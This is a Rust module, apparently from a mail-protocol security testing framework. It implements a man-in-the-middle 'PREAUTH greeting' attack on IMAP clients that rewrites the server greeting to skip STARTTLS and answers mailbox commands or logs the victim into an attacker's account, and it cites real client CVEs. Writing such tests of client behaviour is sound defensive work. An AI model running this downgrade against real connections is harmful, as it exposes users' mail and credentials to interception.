//! Greets with PREAUTH.

use super::kit::login;
use super::{Attack, Deciding, Group, tamper};
use crate::base::{ATTACKER, Protocol, Side, Switch, switch};
use crate::harm::success;
use crate::proto::Answer;
use crate::trace::Verb;

switch!(
    Middle MAILBOX,
    "mailbox-commands",
    Setting,
    &["answered", "relayed", "own-account"],
    &[],
    "Commands about the mailbox",
    "Whether the attacker says yes to them himself, lets the server say no, or logs in to an account of his own first, so that the victim works there."
);
switch!(
    Middle LISTED,
    "preauth-list",
    Setting,
    &["bare", "with-starttls"],
    &[],
    "List in the greeting",
    "The shortest list that there is, or one that offers STARTTLS, which is too late after PREAUTH."
);

static SWITCHES: &[&Switch] = &[&MAILBOX, &LISTED];

static DECIDING: &[Deciding] = &[
    Deciding { protocols: &[Protocol::Imap], given: &[], right: &[], wrong: &["client.accept-preauth=on"] },
    Deciding { protocols: &[Protocol::Imap], given: &[], right: &[], wrong: &["client.tls=opportunistic"] },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "preauth-greeting",
    title: "Claim a login",
    about: "Turns the greeting into PREAUTH, after which STARTTLS is not allowed any more, and answers the commands that follow.",
    group: Group::Negotiation,
    known: &[
        "CVE-2020-12398 Thunderbird",
        "CVE-2020-14093 Mutt",
        "CVE-2020-14929 Alpine",
        "CVE-2021-39272 fetchmail",
        "CVE-2014-2567 Trojita",
    ],
    protocols: &[Protocol::Imap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let answers = switches.get(&MAILBOX) == "answered";
        let mut logs_in = switches.get(&MAILBOX) == "own-account";
        let mut awaited = false;
        let list = match switches.get(&LISTED) {
            "with-starttls" => "IMAP4rev1 STARTTLS LITERAL+ ID NAMESPACE UIDPLUS",
            _ => "IMAP4rev1",
        };
        tamper(move |message, moves| {
            let work = match message.from {
                Side::Client if answers => dialect.tag_of(Verb::Mailbox, message.octets),
                _ => None,
            };
            match work {
                Some(tag) => moves.answer((dialect.answer)(&tag, Answer::Ok, "done")),
                None if message.is_greeting() => {
                    moves.replace(format!("* PREAUTH [CAPABILITY {list}] welcome back\r\n").into_bytes());
                    if std::mem::take(&mut logs_in) {
                        awaited = true;
                        let (user, password) = ATTACKER;
                        moves.answer(login(dialect.protocol, "q0", user, password).concat());
                    }
                }
                // What the server says to that login is no business of the client's.
                None if awaited && message.from == Side::Server => {
                    awaited = !message.octets.starts_with(b"q0 ")
                }
                None => moves.pass(),
            }
        })
    },
    success: &success::WORKED_AFTER_PREAUTH,
    deciding: DECIDING,
};
